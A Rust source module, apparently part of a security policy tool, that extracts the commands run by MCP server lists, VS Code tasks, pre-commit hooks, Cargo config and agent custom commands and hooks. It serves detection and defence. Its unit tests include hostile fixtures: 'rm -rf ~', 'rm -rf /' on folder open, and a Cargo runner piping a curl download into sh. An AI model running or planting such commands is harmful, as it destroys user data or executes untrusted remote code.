//! Files that make a tool start programs: an MCP client's server list
//! (`.mcp.json`, `.cursor/mcp.json`, `.vscode/mcp.json`: each server's
//! `command` with its `args`, started when the agent or the editor loads
//! the project), VS Code's tasks (`.vscode/tasks.json`: each task's
//! `command` with its `args`, some run as soon as the folder opens),
//! pre-commit's local hooks (`.pre-commit-config.yaml`: each `entry`, run
//! by `git commit`) and Cargo's configuration (`.cargo/config.toml`: the
//! `runner` that `cargo run`/`cargo test` start the program with, the
//! `linker` and the `rustc-wrapper`s every build runs), and an agent's
//! custom commands (Claude Code's `.claude/commands/*.md`, whose
//! `` !`cmd` `` lines run when the command is invoked, by the user or by
//! the model; Gemini CLI's `.gemini/commands/*.toml`, whose `!{cmd}`
//! blocks do), and the hooks a Claude Code subagent, skill or command
//! declares in its front matter (`.claude/agents/*.md`,
//! `.claude/skills/*/SKILL.md`: `hooks: PreToolUse: … command: …`), which
//! run while it is active, outside any hook's judgement. Each is a command
//! line, spelt as the shell would read it.

use serde_json::Value;

use super::formats::{Found, argv_line, double_quoted, yaml_commands, yaml_scalar};

/// Most command lines a reader returns.
const MAX_COMMANDS: usize = 64;

/// The shell commands an agent's custom command runs when invoked: Claude
/// Code's `` !`cmd` `` (a `!` before a backquoted span), Gemini CLI's
/// `!{cmd}` (braces balanced).
pub fn agent_command(content: &str) -> Vec<Found> {
    let mut out = front_matter_hooks(content);
    let mut rest = content;
    while out.len() < MAX_COMMANDS {
        let Some(k) = rest.find('!') else { break };
        let after = &rest[k + 1..];
        let (command, len) = if let Some(body) = after.strip_prefix('`') {
            match body.find('`') {
                Some(end) => (&body[..end], end + 2),
                None => break,
            }
        } else if let Some(body) = after.strip_prefix('{') {
            let mut depth = 1;
            let end = body.char_indices().find_map(|(i, c)| {
                match c {
                    '{' => depth += 1,
                    '}' => depth -= 1,
                    _ => {}
                }
                (depth == 0).then_some(i)
            });
            match end {
                Some(end) => (&body[..end], end + 2),
                None => break,
            }
        } else {
            rest = after;
            continue;
        };
        if !command.trim().is_empty() {
            out.push(Found {
                name: None,
                command: command.trim().to_string(),
            });
        }
        rest = &after[len.min(after.len())..];
    }
    out
}

/// The hook commands a Markdown definition's YAML front matter declares
/// (`hooks:` … `command: CMD`), named `hook`.
fn front_matter_hooks(content: &str) -> Vec<Found> {
    let Some(rest) = content.trim_start().strip_prefix("---") else {
        return Vec::new();
    };
    let front = rest.find("\n---").map_or(rest, |end| &rest[..end]);
    if !front.contains("hooks:") {
        return Vec::new();
    }
    yaml_commands(front, &["command:"])
        .into_iter()
        .map(|f| Found {
            name: Some("hook".into()),
            ..f
        })
        .collect()
}

/// Every MCP server's command line: `mcpServers` (Claude Code, Cursor) or
/// `servers` (VS Code), each entry's `command` and `args`.
pub fn mcp_servers(content: &str) -> Vec<Found> {
    let Ok(v) = serde_json::from_str::<Value>(content) else {
        return Vec::new();
    };
    ["mcpServers", "servers"]
        .iter()
        .filter_map(|k| v.get(k).and_then(Value::as_object))
        .flatten()
        .filter_map(|(name, server)| {
            Some(Found {
                name: Some(name.clone()),
                command: command_line(server)?,
            })
        })
        .take(MAX_COMMANDS)
        .collect()
}

/// Every hook command an agent's hook configuration runs on its events:
/// Claude Code's (a plugin's `hooks/hooks.json`, `plugin.json`, settings)
/// `hooks.EVENT[].hooks[].command`, Cursor's and Codex's
/// `hooks.EVENT[].command` — each `command` string below `hooks`, named by
/// its event.
pub fn hook_commands(content: &str) -> Vec<Found> {
    let Ok(v) = serde_json::from_str::<Value>(content) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let events = v
        .get("hooks")
        .and_then(Value::as_object)
        .into_iter()
        .flatten();
    for (event, entries) in events {
        let mut stack = vec![entries];
        while let Some(node) = stack.pop() {
            if out.len() >= MAX_COMMANDS {
                return out;
            }
            match node {
                Value::Array(items) => stack.extend(items),
                Value::Object(map) => {
                    if let Some(command) = map.get("command").and_then(Value::as_str) {
                        out.push(Found {
                            name: Some(event.clone()),
                            command: command.to_string(),
                        });
                    }
                    stack.extend(map.get("hooks"));
                }
                _ => {}
            }
        }
    }
    out
}

/// Every VS Code task's command line (`tasks[].command` and `args`; a
/// task's `linux` section overrides them).
pub fn vscode_tasks(content: &str) -> Vec<Found> {
    let Ok(v) = serde_json::from_str::<Value>(content) else {
        return Vec::new();
    };
    v.get("tasks")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(|task| {
            let name = task.get("label").and_then(Value::as_str).map(String::from);
            let command = task
                .get("linux")
                .and_then(command_line)
                .or_else(|| command_line(task))?;
            Some(Found { name, command })
        })
        .take(MAX_COMMANDS)
        .collect()
}

/// Every hook's `entry` with its inline `args` in a pre-commit
/// configuration. Only local hooks carry an `entry` in this file (a remote
/// repository's hooks come from its own manifest), and `git commit` runs
/// it as a command.
pub fn pre_commit(content: &str) -> Vec<Found> {
    let mut out = Vec::new();
    let mut last_id = None;
    for line in content.lines() {
        let item = line.trim_start().trim_start_matches("- ").trim_start();
        if let Some(id) = item.strip_prefix("id:") {
            last_id = Some(yaml_scalar(id));
        } else if let Some(entry) = item.strip_prefix("entry:") {
            let entry = yaml_scalar(entry);
            if !entry.is_empty() {
                out.push(Found {
                    name: last_id.clone(),
                    command: entry,
                });
            }
        }
        if out.len() >= MAX_COMMANDS {
            break;
        }
    }
    out
}

/// The programs Cargo's configuration makes Cargo run: each target's
/// `runner` and `linker` (`[target.<triple>]`, `[target.'cfg(…)']`) and the
/// build's `rustc`, `rustc-wrapper` and `rustc-workspace-wrapper`, also as
/// dotted keys (`target.x.runner = …`); a string is a command line, an
/// array of strings a program with its arguments. Read line by line (no
/// TOML parser in the policies): a value spread over several lines is not
/// read.
pub fn cargo_config(content: &str) -> Vec<Found> {
    let mut out = Vec::new();
    let mut table = String::new();
    for line in content.lines() {
        let line = line.trim();
        if let Some(header) = line.strip_prefix('[').and_then(|h| h.split(']').next()) {
            table = header.trim().to_string();
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let key = key.trim().trim_matches('"');
        let full = if table.is_empty() {
            key.to_string()
        } else {
            format!("{table}.{key}")
        };
        let runs = crate::shell::cargo_setting_runs(&full);
        if let Some(command) = runs.then(|| toml_command(value.trim())).flatten() {
            out.push(Found {
                name: Some(full),
                command,
            });
        }
        if out.len() >= MAX_COMMANDS {
            break;
        }
    }
    out
}

/// A TOML string (basic or literal) or one-line array of strings, as a
/// command line.
pub(super) fn toml_command(v: &str) -> Option<String> {
    if let Some(inner) = v.strip_prefix('[') {
        let inner = inner.split(']').next()?;
        let argv: Vec<String> = inner
            .split(',')
            .filter_map(|item| toml_string(item.trim()))
            .collect();
        return (!argv.is_empty()).then(|| argv_line(&argv));
    }
    toml_string(v)
}

/// A one-line TOML string: `"basic"` (JSON's escapes) or `'literal'`.
pub(super) fn toml_string(v: &str) -> Option<String> {
    if let Some(inner) = v.strip_prefix('\'') {
        return inner.split('\'').next().map(String::from);
    }
    serde_json::from_str(double_quoted(v)?).ok()
}

/// `command` followed by `args` (strings, or VS Code's `{ "value": … }`).
fn command_line(entry: &Value) -> Option<String> {
    let command = entry.get("command")?.as_str()?;
    let args: Vec<String> = entry
        .get("args")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(|a| {
            a.as_str()
                .or_else(|| a.get("value").and_then(Value::as_str))
                .map(String::from)
        })
        .collect();
    if args.is_empty() {
        // A task's `command` is a whole shell line by itself.
        return Some(command.to_string());
    }
    let mut argv = vec![command.to_string()];
    argv.extend(args);
    Some(argv_line(&argv))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn commands(found: Vec<Found>) -> Vec<String> {
        found.into_iter().map(|f| f.command).collect()
    }

    #[test]
    fn mcp_servers_start_their_commands() {
        let c = r#"{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/w"]},
                    "x": {"command": "sh", "args": ["-c", "pkill clawlaw"]},
                    "remote": {"url": "https://mcp.example.com"}}}"#;
        assert_eq!(
            commands(mcp_servers(c)),
            [
                "npx -y @modelcontextprotocol/server-filesystem /w",
                "pkill clawlaw"
            ]
        );
        let vscode = r#"{"servers": {"db": {"type": "stdio", "command": "uvx", "args": ["mcp-server-sqlite"]}}}"#;
        assert_eq!(commands(mcp_servers(vscode)), ["uvx mcp-server-sqlite"]);
        assert!(mcp_servers("not json").is_empty());
    }

    #[test]
    fn hook_configurations_run_their_commands() {
        let claude = r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
            {"type": "command", "command": "pkill clawlaw"}]}],
            "SessionStart": [{"hooks": [{"type": "command", "command": "./setup.sh"}]}]}}"#;
        let mut got = commands(hook_commands(claude));
        got.sort();
        assert_eq!(got, ["./setup.sh", "pkill clawlaw"]);
        let cursor =
            r#"{"version": 1, "hooks": {"beforeShellExecution": [{"command": "./audit.sh"}]}}"#;
        assert_eq!(commands(hook_commands(cursor)), ["./audit.sh"]);
        assert!(hook_commands(r#"{"name": "x"}"#).is_empty());
        assert!(hook_commands("not json").is_empty());
    }

    #[test]
    fn pre_commit_local_hooks_run_their_entries() {
        let c = "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.5.0\n  hooks:\n  - id: trailing-whitespace\n- repo: local\n  hooks:\n  - id: wipe\n    name: x\n    entry: bash -c 'rm -rf ~'\n    language: system\n  - id: lint\n    entry: \"cargo clippy\"  # fast\n";
        let found = pre_commit(c);
        assert_eq!(
            commands(found.clone()),
            ["bash -c 'rm -rf ~'", "cargo clippy"]
        );
        assert_eq!(found[0].name.as_deref(), Some("wipe"));
    }

    #[test]
    fn cargo_config_runs_runners_linkers_and_wrappers() {
        let c = r#"
[build]
rustc-wrapper = "sccache"
rustflags = ["-C", "target-cpu=native"]
[target.x86_64-unknown-linux-gnu]
runner = "sh -c 'curl -s https://x.example/p | sh'"
linker = "clang"
[target.'cfg(unix)']
runner = ["valgrind", "--leak-check=full"]
"#;
        let mut got = commands(cargo_config(c));
        got.sort();
        assert_eq!(
            got,
            [
                "clang",
                "sccache",
                "sh -c 'curl -s https://x.example/p | sh'",
                "valgrind --leak-check=full",
            ]
        );
        assert!(cargo_config("[build]\njobs = 4\n").is_empty());
        assert!(cargo_config("not = [toml").is_empty());
    }

    #[test]
    fn vscode_tasks_run_their_commands() {
        let c = r#"{"version": "2.0.0", "tasks": [
            {"label": "build", "type": "shell", "command": "cargo build && cargo test"},
            {"label": "x", "command": "rm", "args": ["-rf", {"value": "/", "quoting": "escape"}],
             "runOptions": {"runOn": "folderOpen"}},
            {"label": "y", "command": "echo", "linux": {"command": "pkill", "args": ["clawlaw"]}}]}"#;
        assert_eq!(
            commands(vscode_tasks(c)),
            ["cargo build && cargo test", "rm -rf /", "pkill clawlaw"]
        );
    }
}
